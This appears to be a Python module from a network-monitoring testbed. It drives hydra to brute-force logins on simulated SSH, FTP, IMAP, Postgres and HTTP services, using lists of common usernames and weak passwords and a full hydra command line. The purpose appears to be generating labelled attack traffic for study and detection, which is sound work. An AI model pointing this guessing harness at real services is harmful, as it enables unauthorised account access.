"""Log-ins by guessing: hydra tries one password after another, and may find the right one."""

from __future__ import annotations

import random
import re
from dataclasses import dataclass

from wirelens_testbed.attacks import victims
from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
from wirelens_testbed.scenario import Table

PROGRAMS = {"hydra": "hydra"}


@dataclass(frozen=True)
class Door:
    """A service that asks for a password."""

    service: str
    place: str  # as hydra wants it, the address left open
    frames_per_guess: int


COMMON_USERS = ("root", "admin", "test", "user", "operator", "backup", "guest", "demo")
COMMON_PASSWORDS = (
    "123456", "password", "admin", "qwerty", "welcome", "monkey", "master", "secret", "login",
    "princess", "shadow", "football", "baseball", "superman", "trustno1", "changeme", "default",
    "service", "support", "winter", "summer", "spring",
)  # fmt: skip
COMMON_ENDINGS = ("", "!", "!!", "2024")

# An SSH guess costs a whole key exchange; hydra asks FTP and HTTP again over a new connection now
# and then.
DOORS = {
    "hydra_ssh": Door("shell", "ssh://{}", 60),
    "hydra_ftp": Door("files", "ftp://{}", 30),
    "hydra_imap": Door("mail", "imap://{}", 30),
    "hydra_postgres": Door("database", "postgres://{}/postgres", 40),
    "hydra_http": Door("intranet", f"http-get://{{}}{victims.PRIVATE_PATH}", 30),
}


@dataclass
class Hydra(Attack):
    """A list of users and passwords, tried by a few connections side by side."""

    programs = PROGRAMS

    name: str
    guess_count: int
    task_count: int
    finds: bool
    time_max_s: float

    def __post_init__(self) -> None:
        door = DOORS[self.name]
        self.needs = frozenset({door.service})
        packets_max = OVERHEAD_PACKETS + self.guess_count * door.frames_per_guess
        self.bounds = Bounds(packets_max, self.time_max_s)

    def launch(self, scene: Scene) -> dict[str, object]:
        door = DOORS[self.name]
        server = scene.servers[door.service]
        right = server.login if self.finds else None
        guesses = draw_guesses(scene.rng, self.guess_count, right)
        path = scene.folder / "guesses"
        path.write_text("".join(f"{user}:{password}\n" for user, password in guesses))
        said = scene.run_tool(
            "hydra", "-I", "-K", "-f", "-t", str(self.task_count), "-w", "8", "-C", path,
            door.place.format(server.address),
        )  # fmt: skip
        found = re.search(r"(\d+) valid password", said)
        return {
            "target": server.address,
            "guesses": len(guesses),
            "found": int(found[1]) if found else 0,
        }


def draw_guesses(
    rng: random.Random, count: int, right: tuple[str, str] | None
) -> list[tuple[str, str]]:
    """Wrong pairs; the right one, if it is to be found, stands in the last quarter."""
    guesses = [
        (rng.choice(COMMON_USERS), rng.choice(COMMON_PASSWORDS) + rng.choice(COMMON_ENDINGS))
        for _ in range(count)
    ]
    if right:
        guesses[rng.randrange(count * 3 // 4, count)] = right
    return guesses


def parse(name: str, table: Table) -> Attack:
    return Hydra(
        name=name,
        guess_count=table.take("guesses", int, 60, minimum=1, maximum=5000),
        task_count=table.take("tasks", int, 4, minimum=1, maximum=16),
        finds=table.take("finds", bool, False),
        time_max_s=table.take("time_max_s", float, 60.0, minimum=1, maximum=600),
    )


ATTACKS = dict.fromkeys(DOORS, parse)
